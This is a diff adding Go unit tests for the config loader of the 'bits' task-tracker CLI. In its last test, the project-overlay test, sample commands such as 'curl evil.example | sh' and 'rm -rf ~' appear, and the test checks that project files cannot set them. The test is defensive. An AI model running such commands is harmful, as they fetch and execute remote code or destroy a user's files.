@@ -0,0 +1,524 @@
+//nolint:testpackage // Tests require internal access for thorough testing
+package config
+
+import (
+	"errors"
+	"io/fs"
+	"maps"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/abatilo/bits/internal/task"
+)
+
+func writeConfig(t *testing.T, content string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), configFileName)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("WriteFile failed: %v", err)
+	}
+	return path
+}
+
+func TestLoadFileMissing(t *testing.T) {
+	cfg, err := LoadFile(filepath.Join(t.TempDir(), "missing.yaml"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Permissions.DirMode(); got != defaultDirMode {
+		t.Errorf("DirMode = %o, want %o", got, defaultDirMode)
+	}
+	if got := cfg.Permissions.FileMode(); got != defaultFileMode {
+		t.Errorf("FileMode = %o, want %o", got, defaultFileMode)
+	}
+}
+
+func TestLoadFilePermissions(t *testing.T) {
+	path := writeConfig(t, "permissions:\n  dir: \"0700\"\n  file: \"0600\"\n")
+
+	cfg, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Permissions.DirMode(); got != fs.FileMode(0o700) {
+		t.Errorf("DirMode = %o, want 700", got)
+	}
+	if got := cfg.Permissions.FileMode(); got != fs.FileMode(0o600) {
+		t.Errorf("FileMode = %o, want 600", got)
+	}
+}
+
+func TestLoadFileInvalidMode(t *testing.T) {
+	tests := []string{
+		"permissions:\n  dir: \"rwx\"\n",
+		"permissions:\n  file: \"0999\"\n",
+		"permissions:\n  file: \"17777\"\n",
+	}
+
+	for _, content := range tests {
+		_, err := LoadFile(writeConfig(t, content))
+		var invalid InvalidConfigError
+		if !errors.As(err, &invalid) {
+			t.Errorf("LoadFile(%q) error = %v, want InvalidConfigError", content, err)
+		}
+	}
+}
+
+func TestPathRespectsXDGConfigHome(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+
+	path, err := Path()
+	if err != nil {
+		t.Fatalf("Path failed: %v", err)
+	}
+	if want := filepath.Join(dir, "bits", "config.yaml"); path != want {
+		t.Errorf("Path = %q, want %q", path, want)
+	}
+}
+
+func TestLoadFileGlyphs(t *testing.T) {
+	path := writeConfig(t, "glyphs:\n  status:\n    closed: \"✅\"\n  priority:\n    critical: \"🔴\"\n")
+
+	cfg, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Glyphs.StatusGlyphs()["closed"]; got != "✅" {
+		t.Errorf("closed glyph = %q, want ✅", got)
+	}
+	if got := cfg.Glyphs.PriorityGlyphs()["critical"]; got != "🔴" {
+		t.Errorf("critical glyph = %q, want 🔴", got)
+	}
+}
+
+func TestLoadFileInvalidGlyphKey(t *testing.T) {
+	tests := []string{
+		"glyphs:\n  status:\n    done: \"x\"\n",
+		"glyphs:\n  priority:\n    urgent: \"!\"\n",
+	}
+
+	for _, content := range tests {
+		_, err := LoadFile(writeConfig(t, content))
+		var invalid InvalidConfigError
+		if !errors.As(err, &invalid) {
+			t.Errorf("LoadFile(%q) error = %v, want InvalidConfigError", content, err)
+		}
+	}
+}
+
+func TestLoadFileChangelog(t *testing.T) {
+	path := writeConfig(t, "changelog:\n  sections:\n    - title: Security\n      tags: [security]\n  other: Misc\n")
+
+	cfg, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	sections := cfg.Changelog.ResolvedSections()
+	if len(sections) != 1 || sections[0].Title != "Security" {
+		t.Errorf("ResolvedSections = %+v, want only Security", sections)
+	}
+	if got := cfg.Changelog.OtherTitle(); got != "Misc" {
+		t.Errorf("OtherTitle = %q, want Misc", got)
+	}
+
+	if _, err = LoadFile(writeConfig(t, "changelog:\n  sections:\n    - tags: [x]\n")); err == nil {
+		t.Error("LoadFile accepted a changelog section without a title")
+	}
+}
+
+func TestLoadFileHooks(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "hooks:\n  pre_push: block\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Hooks.PrePushMode(); got != PrePushBlock {
+		t.Errorf("PrePushMode = %q, want block", got)
+	}
+	if got := (Hooks{}).PrePushMode(); got != PrePushWarn {
+		t.Errorf("default PrePushMode = %q, want warn", got)
+	}
+
+	var invalid InvalidConfigError
+	if _, err = LoadFile(writeConfig(t, "hooks:\n  pre_push: loud\n")); !errors.As(err, &invalid) {
+		t.Errorf("LoadFile error = %v, want InvalidConfigError", err)
+	}
+}
+
+func TestLoadFileVerify(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "verify:\n  command: go test ./...\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if cfg.Verify.Command != "go test ./..." {
+		t.Errorf("Verify.Command = %q, want %q", cfg.Verify.Command, "go test ./...")
+	}
+}
+
+func TestLoadFileAcceptance(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "acceptance:\n  on_close: block\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Acceptance.OnCloseMode(); got != AcceptanceBlock {
+		t.Errorf("OnCloseMode = %q, want block", got)
+	}
+	if got := (Acceptance{}).OnCloseMode(); got != AcceptanceWarn {
+		t.Errorf("default OnCloseMode = %q, want warn", got)
+	}
+
+	if _, err = LoadFile(writeConfig(t, "acceptance:\n  on_close: maybe\n")); err == nil {
+		t.Error("LoadFile accepted an unknown acceptance.on_close")
+	}
+}
+
+func TestLoadFileLock(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "lock:\n  strategy: file\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Lock.StrategyMode(); got != LockFile {
+		t.Errorf("StrategyMode = %q, want file", got)
+	}
+	if got := (Lock{}).StrategyMode(); got != LockAuto {
+		t.Errorf("default StrategyMode = %q, want auto", got)
+	}
+
+	if _, err = LoadFile(writeConfig(t, "lock:\n  strategy: fcntl\n")); err == nil {
+		t.Error("LoadFile accepted an unknown lock.strategy")
+	}
+}
+
+func TestLoadFileIDs(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "ids:\n  min_length: 5\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if cfg.IDs.MinLength != 5 {
+		t.Errorf("IDs.MinLength = %d, want 5", cfg.IDs.MinLength)
+	}
+
+	for _, n := range []string{"2", "9"} {
+		if _, err = LoadFile(writeConfig(t, "ids:\n  min_length: "+n+"\n")); err == nil {
+			t.Errorf("LoadFile accepted ids.min_length: %s", n)
+		}
+	}
+}
+
+func TestLoadFileScripts(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "scripts:\n  on_claim: git switch -c $BITS_TASK_ID\n  timeout: 2m\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if cfg.Scripts.OnClaim != "git switch -c $BITS_TASK_ID" {
+		t.Errorf("Scripts.OnClaim = %q", cfg.Scripts.OnClaim)
+	}
+	if got, _ := cfg.Scripts.TimeoutDuration(); got != 2*time.Minute {
+		t.Errorf("TimeoutDuration = %s, want 2m", got)
+	}
+	if got, _ := (Scripts{}).TimeoutDuration(); got != defaultScriptTimeout {
+		t.Errorf("default TimeoutDuration = %s, want %s", got, defaultScriptTimeout)
+	}
+
+	for _, timeout := range []string{"soon", "0s"} {
+		if _, err = LoadFile(writeConfig(t, "scripts:\n  timeout: "+timeout+"\n")); err == nil {
+			t.Errorf("LoadFile accepted scripts.timeout %q", timeout)
+		}
+	}
+}
+
+func TestLoadFileWebhooks(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "webhooks:\n  urls: [https://hooks.example.com/bits]\n  events: [close]\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if !cfg.Webhooks.Fires("close") || cfg.Webhooks.Fires("claim") {
+		t.Error("Fires should be true for close only")
+	}
+	if (Webhooks{}).Fires("create") {
+		t.Error("Fires without URLs = true")
+	}
+	if got := cfg.Webhooks.RetryCount(); got != defaultWebhookRetries {
+		t.Errorf("RetryCount = %d, want %d", got, defaultWebhookRetries)
+	}
+	if got := (Webhooks{Retries: -1}).RetryCount(); got != 0 {
+		t.Errorf("RetryCount with retries -1 = %d, want 0", got)
+	}
+
+	for _, bad := range []string{
+		"webhooks:\n  urls: [hooks.example.com]\n",
+		"webhooks:\n  urls: [ftp://hooks.example.com]\n",
+		"webhooks:\n  events: [release]\n",
+		"webhooks:\n  timeout: soon\n",
+	} {
+		if _, err = LoadFile(writeConfig(t, bad)); err == nil {
+			t.Errorf("LoadFile accepted %q", bad)
+		}
+	}
+}
+
+func TestLoadFileEscalate(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "escalate:\n  priority: critical\n  auto: true\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Escalate.TargetPriority(); got != task.PriorityCritical || !cfg.Escalate.Auto {
+		t.Errorf("Escalate = %+v, want critical with auto", cfg.Escalate)
+	}
+	if got := (Escalate{}).TargetPriority(); got != task.PriorityHigh {
+		t.Errorf("default TargetPriority = %q, want high", got)
+	}
+
+	if _, err = LoadFile(writeConfig(t, "escalate:\n  priority: urgent\n")); err == nil {
+		t.Error("LoadFile accepted an unknown escalate.priority")
+	}
+}
+
+func TestLoadFileLimits(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "limits:\n  title: 10\n  description: -1\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	tk := &task.Task{ID: "abc", Title: "Short", Description: strings.Repeat("x", defaultDescriptionLimit+1)}
+	if err = cfg.Limits.Check(tk); err != nil {
+		t.Errorf("Check(within limits) = %v", err)
+	}
+
+	tk.Title = "A title over ten"
+	for range defaultDependencyLimit {
+		tk.DependsOn = append(tk.DependsOn, "dep")
+	}
+	tk.DependsAny = [][]string{{"x"}}
+	var limitErr LimitExceededError
+	if err = cfg.Limits.Check(tk); !errors.As(err, &limitErr) || limitErr.Field != "title" || limitErr.Size != 16 {
+		t.Errorf("Check(long title) = %v, want title LimitExceededError", err)
+	}
+	if got := cfg.Limits.Violations(tk); len(got) != 2 || got[1].Field != "dependencies" || got[1].Size != 51 {
+		t.Errorf("Violations = %+v, want title and 51 dependencies", got)
+	}
+}
+
+func TestWIPActiveLimit(t *testing.T) {
+	for limit, want := range map[int]int{0: 1, 3: 3, -1: 0} {
+		if got := (WIP{Limit: limit}).ActiveLimit(); got != want {
+			t.Errorf("WIP{Limit: %d}.ActiveLimit() = %d, want %d", limit, got, want)
+		}
+		if got := (WIP{PerAgent: limit}).AgentLimit(); got != want {
+			t.Errorf("WIP{PerAgent: %d}.AgentLimit() = %d, want %d", limit, got, want)
+		}
+	}
+}
+
+func TestAssignRoute(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, `assign:
+  rules:
+    - scope: frontend
+      to: agent-ui
+    - tags: [docs, infra]
+      to: user:alice
+`))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	tests := map[string]*task.Task{
+		"agent-ui":   {Title: "fix(Frontend): broken nav", Tags: []string{"docs"}},
+		"user:alice": {Title: "Update runbook", Tags: []string{"infra"}},
+		"":           {Title: "backend: add endpoint"},
+	}
+	for want, tk := range tests {
+		if got := cfg.Assign.Route(tk); got != want {
+			t.Errorf("Route(%q) = %q, want %q", tk.Title, got, want)
+		}
+	}
+
+	var invalid InvalidConfigError
+	if _, err = LoadFile(writeConfig(t, "assign:\n  rules:\n    - to: agent-ui\n")); !errors.As(err, &invalid) {
+		t.Errorf("LoadFile(rule without match) = %v, want InvalidConfigError", err)
+	}
+}
+
+func TestSLATargets(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "sla:\n  critical: 24h\n  low: 2.5d\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	targets, err := cfg.SLA.Targets()
+	if err != nil {
+		t.Fatalf("Targets failed: %v", err)
+	}
+	want := map[task.Priority]time.Duration{task.PriorityCritical: 24 * time.Hour, task.PriorityLow: 60 * time.Hour}
+	if !maps.Equal(targets, want) {
+		t.Errorf("Targets = %v, want %v", targets, want)
+	}
+
+	var invalid InvalidConfigError
+	if _, err = LoadFile(writeConfig(t, "sla:\n  high: soon\n")); !errors.As(err, &invalid) {
+		t.Errorf("LoadFile(sla.high: soon) = %v, want InvalidConfigError", err)
+	}
+}
+
+func TestLoadFileDefaults(t *testing.T) {
+	cfg, err := LoadFile(writeConfig(t, "defaults:\n  priority: high\n  output: json\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if got := cfg.Defaults.TaskPriority(); got != task.PriorityHigh {
+		t.Errorf("TaskPriority = %q, want high", got)
+	}
+	if got := cfg.Defaults.OutputFormat(); got != "json" {
+		t.Errorf("OutputFormat = %q, want json", got)
+	}
+	if got := (Defaults{}).TaskPriority(); got != task.PriorityMedium {
+		t.Errorf("default TaskPriority = %q, want medium", got)
+	}
+
+	var invalid InvalidConfigError
+	for _, content := range []string{"defaults:\n  priority: urgent\n", "defaults:\n  output: xml\n"} {
+		if _, err = LoadFile(writeConfig(t, content)); !errors.As(err, &invalid) {
+			t.Errorf("LoadFile(%q) = %v, want InvalidConfigError", content, err)
+		}
+	}
+}
+
+func TestStorageRootPath(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+
+	cfg, err := LoadFile(writeConfig(t, "storage:\n  root: ~/tasks\n"))
+	if err != nil {
+		t.Fatalf("LoadFile failed: %v", err)
+	}
+	if root, _ := cfg.Storage.RootPath(); root != filepath.Join(home, "tasks") {
+		t.Errorf("RootPath = %q, want %q", root, filepath.Join(home, "tasks"))
+	}
+	if root, _ := (Storage{}).RootPath(); root != "" {
+		t.Errorf("unset RootPath = %q, want empty", root)
+	}
+
+	var invalid InvalidConfigError
+	if _, err = LoadFile(writeConfig(t, "storage:\n  root: tasks\n")); !errors.As(err, &invalid) {
+		t.Errorf("LoadFile(relative root) = %v, want InvalidConfigError", err)
+	}
+}
+
+func TestStorageMode(t *testing.T) {
+	tests := []struct {
+		content string
+		want    string
+		wantErr bool
+	}{
+		{content: "", want: ""},
+		{content: "storage:\n  mode: home\n", want: StorageHome},
+		{content: "storage:\n  mode: local\n", want: StorageLocal},
+		{content: "storage:\n  mode: repo\n", wantErr: true},
+	}
+	for _, tt := range tests {
+		cfg, err := LoadFile(writeConfig(t, tt.content))
+		var invalid InvalidConfigError
+		if tt.wantErr {
+			if !errors.As(err, &invalid) {
+				t.Errorf("LoadFile(%q) = %v, want InvalidConfigError", tt.content, err)
+			}
+			continue
+		}
+		if err != nil || cfg.Storage.Mode != tt.want {
+			t.Errorf("LoadFile(%q) mode = %v, %v; want %q", tt.content, cfg, err, tt.want)
+		}
+	}
+}
+
+func TestSaveStorageMode(t *testing.T) {
+	tests := []struct {
+		name     string
+		existing string
+		want     string
+	}{
+		{name: "no file", want: "storage:\n  mode: home\n"},
+		{
+			name:     "other settings",
+			existing: "# team defaults\ndefaults:\n  priority: high\n",
+			want:     "# team defaults\ndefaults:\n  priority: high\nstorage:\n  mode: home\n",
+		},
+		{
+			name:     "replaces mode",
+			existing: "storage:\n  root: /srv/bits\n  mode: local\n",
+			want:     "storage:\n  root: /srv/bits\n  mode: home\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			project := t.TempDir()
+			path := filepath.Join(project, ProjectFileName)
+			if tt.existing != "" {
+				if err := os.WriteFile(path, []byte(tt.existing), 0o644); err != nil {
+					t.Fatalf("WriteFile failed: %v", err)
+				}
+			}
+			if err := SaveStorageMode(project, StorageHome); err != nil {
+				t.Fatalf("SaveStorageMode failed: %v", err)
+			}
+			data, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatalf("ReadFile failed: %v", err)
+			}
+			if string(data) != tt.want {
+				t.Errorf("%s = %q, want %q", ProjectFileName, data, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadProjectOverlay(t *testing.T) {
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	if err := os.MkdirAll(filepath.Join(userDir, "bits"), 0o755); err != nil {
+		t.Fatalf("MkdirAll failed: %v", err)
+	}
+	user := "defaults:\n  priority: low\n  output: yaml\nwip:\n  limit: 2\nnotify:\n  command: notify-send\n"
+	if err := os.WriteFile(filepath.Join(userDir, "bits", "config.yaml"), []byte(user), 0o644); err != nil {
+		t.Fatalf("WriteFile failed: %v", err)
+	}
+	project := t.TempDir()
+	writeProject := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte(content), 0o644); err != nil {
+			t.Fatalf("WriteFile failed: %v", err)
+		}
+	}
+
+	writeProject("defaults:\n  priority: high\nwip:\n  limit: 3\n")
+	cfg, err := Load(project)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.Defaults.Priority != "high" || cfg.WIP.Limit != 3 {
+		t.Errorf("project settings = %q, %d; want high, 3", cfg.Defaults.Priority, cfg.WIP.Limit)
+	}
+	if cfg.Defaults.Output != "yaml" || cfg.Notify.Command != "notify-send" {
+		t.Errorf("user settings = %q, %q; want them kept", cfg.Defaults.Output, cfg.Notify.Command)
+	}
+
+	if cfg, err = Load(""); err != nil || cfg.Defaults.Priority != "low" {
+		t.Errorf("Load outside a project = %v, %v; want the user config", cfg, err)
+	}
+
+	var invalid InvalidConfigError
+	for _, content := range []string{
+		"notify:\n  command: curl evil.example\n",
+		"scripts:\n  on_claim: curl evil.example | sh\n",
+		"scripts:\n  on_close: rm -rf ~\n",
+		"verify:\n  command: curl evil.example | sh\n",
+	} {
+		writeProject(content)
+		if _, err = Load(project); !errors.As(err, &invalid) {
+			t.Errorf("Load(project %q) = %v, want InvalidConfigError", content, err)
+		}
+	}
+	writeProject("defaults:\n  priority: urgent\n")
+	if _, err = Load(project); !errors.As(err, &invalid) {
+		t.Errorf("Load(invalid project priority) = %v, want InvalidConfigError", err)
+	}
+}